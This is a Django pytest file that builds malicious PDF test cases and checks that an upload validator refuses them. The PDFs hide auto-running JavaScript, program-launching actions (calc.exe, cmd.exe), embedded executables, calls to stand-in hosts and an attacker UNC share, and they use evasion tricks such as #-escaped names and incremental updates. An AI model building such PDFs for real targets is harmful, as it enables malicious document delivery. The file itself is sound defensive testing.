"""Uploads are judged by what they are: a PDF must parse, be unencrypted and carry
nothing that runs or opens something; an image must decode. The malicious PDFs are
made here with pypdf's writer (or by hand where a writer would not produce them)."""

from __future__ import annotations

import io
from collections.abc import Callable

import pytest
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from subsidy.demo_data import TINY_PDF, minimal_pdf
from subsidy.uploads import check_upload


def image_bytes(fmt: str, size: tuple[int, int] = (4, 3)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, format=fmt)
    return buffer.getvalue()


def pdf(build: Callable[[PdfWriter], None] | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if build is not None:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def js_action(script: str = "app.alert(1)") -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)})


def _open_action_js(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(js_action())


def _document_js(writer: PdfWriter) -> None:
    # The document's JavaScript name tree, run when the document opens.
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(js_action())])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})


def _page_aa(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): js_action()})


def _launch(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )


def _embedded_file(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ\x90\x00")


def _file_attachment_annotation(writer: PdfWriter) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([NumberObject(10), NumberObject(10), NumberObject(30), NumberObject(30)]),
            NameObject("/FS"): TextStringObject("payload.bin"),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _link_with_js(writer: PdfWriter) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(10), NumberObject(10), NumberObject(30), NumberObject(30)]),
            NameObject("/A"): js_action(),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _encrypted(writer: PdfWriter) -> None:
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="AES-128")


PAGE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
LEAF = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
# A name may be written with #xx escapes: /J#61vaScript is /JavaScript.
ESCAPED_JS = minimal_pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>", PAGE, LEAF)

REFUSED_PDFS = {
    "open action running JavaScript": (pdf(_open_action_js), "JavaScript"),
    "document-level JavaScript": (pdf(_document_js), "JavaScript"),
    "page additional actions": (pdf(_page_aa), "JavaScript"),
    "link annotation running JavaScript": (pdf(_link_with_js), "JavaScript"),
    "JavaScript behind #-escaped names": (ESCAPED_JS, "JavaScript"),
    "launch action": (pdf(_launch), "launches a program"),
    "embedded file": (pdf(_embedded_file), "embedded"),
    "file attachment annotation": (pdf(_file_attachment_annotation), "embedded"),
    "encrypted": (pdf(_encrypted), "encrypted"),
    "does not parse": (b"%PDF-1.7\n" + b"\x00garbage" * 50, "could not be read"),
    "cut short": (TINY_PDF[:80], "could not be read"),
    "no pages": (minimal_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"), "no pages"),
}


def check(content: bytes, name: str = "upload.pdf") -> str:
    return check_upload(SimpleUploadedFile(name, content, content_type="application/pdf"))


@pytest.mark.parametrize(("content", "expected"), REFUSED_PDFS.values(), ids=REFUSED_PDFS.keys())
def test_dangerous_or_unreadable_pdfs_are_refused_with_a_field_error(content, expected):
    with pytest.raises(ValidationError) as caught:
        check(content)
    messages = [str(m) for m in caught.value.message_dict["file"]]
    assert len(messages) == 1
    assert expected in messages[0]


def test_plain_pdfs_are_accepted_including_a_harmless_open_action():
    assert check(TINY_PDF) == "application/pdf"
    assert check(pdf()) == "application/pdf"

    def go_to_first_page(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")]
        )

    assert check(pdf(go_to_first_page)) == "application/pdf"


@pytest.mark.parametrize(("fmt", "content_type"), [("PNG", "image/png"), ("JPEG", "image/jpeg")])
def test_images_that_decode_are_accepted_whatever_they_are_called(fmt, content_type):
    assert check(image_bytes(fmt), name="scan.pdf") == content_type


@pytest.mark.parametrize(
    "content",
    [
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
        image_bytes("PNG")[:40],
        b"\xff\xd8\xff\xe0" + b"\x00" * 64,
        image_bytes("JPEG")[:30],
    ],
    ids=["png signature only", "truncated png", "jpeg signature only", "truncated jpeg"],
)
def test_images_that_do_not_decode_are_refused(content):
    with pytest.raises(ValidationError) as caught:
        check(content, name="scan.png")
    assert "could not be read" in str(caught.value.message_dict["file"][0])


def test_decompression_bombs_are_refused(monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 100)
    with pytest.raises(ValidationError):
        check(image_bytes("PNG", size=(20, 20)), name="bomb.png")


def test_the_size_limit_is_a_setting(settings):
    settings.MAX_UPLOAD_BYTES = 100
    with pytest.raises(ValidationError) as caught:
        check(pdf())
    assert "limit" in str(caught.value.message_dict["file"][0])


# Automatic actions other than JavaScript, and actions reaching outside the document ---------

CATALOG = b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>"


def open_action(action: bytes) -> bytes:
    return minimal_pdf(CATALOG % action, PAGE, LEAF)


def link_annotation(action: bytes) -> bytes:
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>"
    link = b"<</Type/Annot/Subtype/Link/Rect[10 10 30 30]/A %s>>" % action
    return minimal_pdf(b"<</Type/Catalog/Pages 2 0 R>>", PAGE, leaf, link)


def incremental_update(base: bytes, *objects: tuple[int, bytes], root: int = 1, startxref: bool = True) -> bytes:
    """`base` with an incremental update appended after its %%EOF: new or replacing
    objects and a cross-reference section naming them (with /Prev to the old one)."""
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    out = base
    offsets = []
    for number, body in objects:
        offsets.append((number, len(out)))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not startxref:
        return out  # the objects alone: only a viewer that rebuilds the table finds them
    xref = len(out)
    out += b"xref\n"
    for number, offset in offsets:
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    size = max(number for number, _ in objects) + 1
    out += b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (max(size, 4), root, previous, xref)
    return out


AUTOMATIC_ACTIONS = {
    "open action to a web address": open_action(b"<</S/URI/URI(https://tracker.example/p)>>"),
    "open action submitting a form": open_action(b"<</S/SubmitForm/F<</FS/URL/F(https://x.example/)>>>>"),
    "open action to a UNC path": open_action(b"<</S/GoToR/F(\\\\\\\\attacker\\\\share\\\\a.pdf)/D[0/Fit]>>"),
    "open action importing data": open_action(b"<</S/ImportData/F(data.fdf)>>"),
    "open action to an embedded file": open_action(b"<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>"),
    "open action playing a rendition": open_action(b"<</S/Rendition/OP 0>>"),
    "open action playing a sound": open_action(b"<</S/Sound/Sound 2 0 R>>"),
    "open action playing a movie": open_action(b"<</S/Movie/T(m)>>"),
    "harmless go-to followed by a web address": open_action(
        b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://x.example/)>>>>"
    ),
    "#-escaped submit form": open_action(b"<</S/Subm#69tForm/F(https://x.example/)>>"),
    "link to another file (UNC path)": link_annotation(b"<</S/GoToR/F(\\\\\\\\attacker\\\\share\\\\a.pdf)/D[0/Fit]>>"),
    "link launching a program": link_annotation(b"<</S/Launch/F(cmd.exe)>>"),
    "link importing data": link_annotation(b"<</S/ImportData/F(x.fdf)>>"),
    "sound annotation": minimal_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        PAGE,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[<</Type/Annot/Subtype/Sound/Rect[0 0 9 9]>>]>>",
    ),
    # A second catalogue in an update after %%EOF (the newest cross-reference names it).
    "incremental update adding an open action": incremental_update(
        TINY_PDF, (1, b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(https://x.example/)>>>>")
    ),
    "incremental update adding a JavaScript catalogue": incremental_update(
        TINY_PDF, (4, b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"), root=4
    ),
    # Objects appended without a cross-reference section: pypdf reads the old revision,
    # a viewer that rebuilds the table reads these.
    "appended catalogue no cross-reference names": incremental_update(
        TINY_PDF,
        (1, b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(calc.exe)>>>>"),
        startxref=False,
    ),
    # An older revision's catalogue (superseded in the newest table) still in the file.
    "superseded catalogue with a submit form": incremental_update(
        open_action(b"<</S/SubmitForm/F(https://x.example/)>>"), (1, b"<</Type/Catalog/Pages 2 0 R>>")
    ),
}


@pytest.mark.parametrize("content", AUTOMATIC_ACTIONS.values(), ids=AUTOMATIC_ACTIONS.keys())
def test_pdfs_with_actions_reaching_outside_the_document_are_refused(content):
    with pytest.raises(ValidationError) as caught:
        check(content)
    assert len(caught.value.message_dict["file"]) == 1


def _object_stream_with(action: bytes) -> bytes:
    """An open action hidden in a compressed object stream (PDF 1.5), written by pypdf."""

    def build(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(
            DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(action)})
        )

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_an_open_action_inside_a_compressed_object_stream_is_refused():
    with pytest.raises(ValidationError):
        check(_object_stream_with("https://x.example/"))


def test_a_web_link_a_reader_clicks_and_a_go_to_page_open_action_are_accepted():
    assert check(link_annotation(b"<</S/URI/URI(https://www.ipd.gov.hk/)>>")) == "application/pdf"
    assert check(open_action(b"<</S/GoTo/D[3 0 R/Fit]>>")) == "application/pdf"
    assert check(incremental_update(TINY_PDF, (1, b"<</Type/Catalog/Pages 2 0 R>>"))) == "application/pdf"


def test_images_above_the_pixel_limit_are_refused_before_decoding(settings):
    settings.MAX_IMAGE_PIXELS = 10_000
    assert check(image_bytes("PNG", size=(100, 100)), name="ok.png") == "image/png"
    with pytest.raises(ValidationError) as caught:
        check(image_bytes("PNG", size=(101, 100)), name="big.png")
    assert "pixels" in str(caught.value.message_dict["file"][0])


def test_pillow_refuses_large_images_everywhere():
    assert Image.MAX_IMAGE_PIXELS == django_settings.MAX_IMAGE_PIXELS == 40_000_000
